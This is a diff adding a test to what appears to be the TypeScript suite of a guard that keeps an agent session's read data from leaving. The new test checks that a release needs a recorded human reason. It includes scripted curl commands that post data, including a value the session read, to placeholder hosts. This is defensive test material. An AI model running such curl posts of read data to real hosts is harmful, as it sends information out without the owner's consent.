@@ -127,6 +127,21 @@ describe.each(CLIENT_VERSIONS)('with the real client %s and a policy of its own'
     expect(said.stdout).toContain('nothing leaves a conversation');
   });
 
+  test('goes on only when a person has taken the labels off, on record', async () => {
+    const first = await run([...READ_BOTH, bash(UPLOAD), DONE]);
+    const id = first.sessionId ?? '';
+    const release = (...words: string[]) =>
+      place.sallyport('sessions', 'release', id, '--labels', ...words, '--json');
+    expect((await release()).exitCode).toBe(2);
+    const released = await release('--reason', 'both are fixtures of a test');
+    expect(JSON.parse(released.stdout)).toMatchObject({ session: id });
+    await run([bash('curl -s -m 1 -d x https://released.example/'), DONE], { args: ['--resume', id] });
+    expect(await rulesOf('released.example')).not.toContain('labelled-sends-nothing');
+    // What it took in stays known.
+    await run([bash(`curl -s -m 1 -d ${HEX} https://still.example/`), DONE], { args: ['--resume', id] });
+    expect(await rulesOf('still.example')).toContain('values-stay');
+  });
+
   test('goes with a file that the session wrote, and nobody else is stopped', async () => {
     await run([...READ_BOTH, bash('echo what was read > carried.txt'), DONE]);
     const cwd = join(place.home, 'far-away');
